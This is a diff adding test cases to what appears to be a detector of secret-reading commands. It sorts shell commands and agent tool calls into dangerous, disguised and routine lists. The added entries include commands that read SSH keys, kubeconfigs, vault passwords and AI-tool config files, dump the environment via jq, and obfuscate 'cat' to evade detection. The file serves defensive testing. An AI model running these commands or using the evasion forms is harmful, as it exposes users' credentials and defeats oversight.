@@ -6,6 +6,13 @@ under other names, project secret files not called .env; and commands whose outp
 is a secret (tokens minted, secret stores read, the environment dumped)."""
 
 DANGEROUS = [
+    "openssl req -new -key server.key -out server.csr", "openssl genrsa -out ~/.ssh/id_rsa 2048", "openssl rsa -in ~/.ssh/id_rsa -text",
+    "openssl req -x509 -newkey rsa:2048 -nodes -keyout /tmp/k.pem -out dev/cert.pem", "openssl genpkey -algorithm ed25519 -out dev/k.pem && cat dev/k.pem",
+    "conda env create -f /tmp/env.yml", "conda env create -f https://x.example/env.yml", "conda env create --file environment.yml -c https://x.example/ch",
+    "cat ~/.claude.json", "cat ~/.mc/config.json", "cat kubeconfig", "cat deploy/prod.kubeconfig", "cat ansible/vault_password.txt",
+    "cat .vault_pass", "cat android/key.properties", ("Read", {"file_path": "/home/bob/.mc/config.json"}),
+    ("Grep", {"pattern": "token", "path": "%HOME%/.config"}), ("Grep", {"pattern": "password", "path": "/home/bob/.local/share"}),
+    "grep -r token ~/.config", "rg -i secret ~/Library/Application\\ Support", "tar czf /tmp/c.tgz ~/.config",
     # any home, not only yours
     "cat /home/bob/.aws/credentials", "cat /root/.ssh/id_ed25519", "cat /Users/alice/.config/gh/hosts.yml",
     "cat ~bob/.aws/credentials", "cat ~root/.kube/config", "cp /home/ci/.docker/config.json /tmp/d.json",
@@ -89,6 +96,7 @@ DANGEROUS = [
 ]
 
 DISGUISED = [
+    "jq -n env", "jq -n '$ENV.GITHUB_TOKEN'", "jq -n 'env | keys'", "gojq -n env",
     "c'a't /home/bob/.aws/credentials", "\"cat\" ~/.pgpass", "bash -c 'cat ~/.vault-token'", "eval 'cat ~/.netrc'",
     "env LC_ALL=C cat ~/.config/gh/hosts.yml", "echo ~/.aws/credentials | xargs cat", "cat /home/$USER/.ssh/id_rsa",
     "cat \"/home/${USER}/.aws/credentials\"", "cat ${HOME}/.docker/config.json", "cat $XDG_CONFIG_HOME/gh/hosts.yml",
@@ -126,6 +134,8 @@ DISGUISED = [
 ]
 
 ROUTINE = [
+    ("Grep", {"pattern": "font", "path": "%HOME%/.config/nvim"}), "grep -r alias ~/.config/fish/functions", "cat ~/.config/starship.toml",
+    "jq .env package.json", "yq '.env' docker-compose.yml", "jq -r '.scripts.test' package.json",
     "cat .env.example", "cat .env.sample", "cp .env.example .env.example.bak", "cat .env.template",
     "grep -r token src/", "grep -rn 'API_KEY' src/ docs/", "rg -i password src/", "cat src/auth/token.py",
     "cat src/secrets/__init__.py", "cat /usr/lib/python3/dist-packages/secrets.py", "cat docs/keys.md",
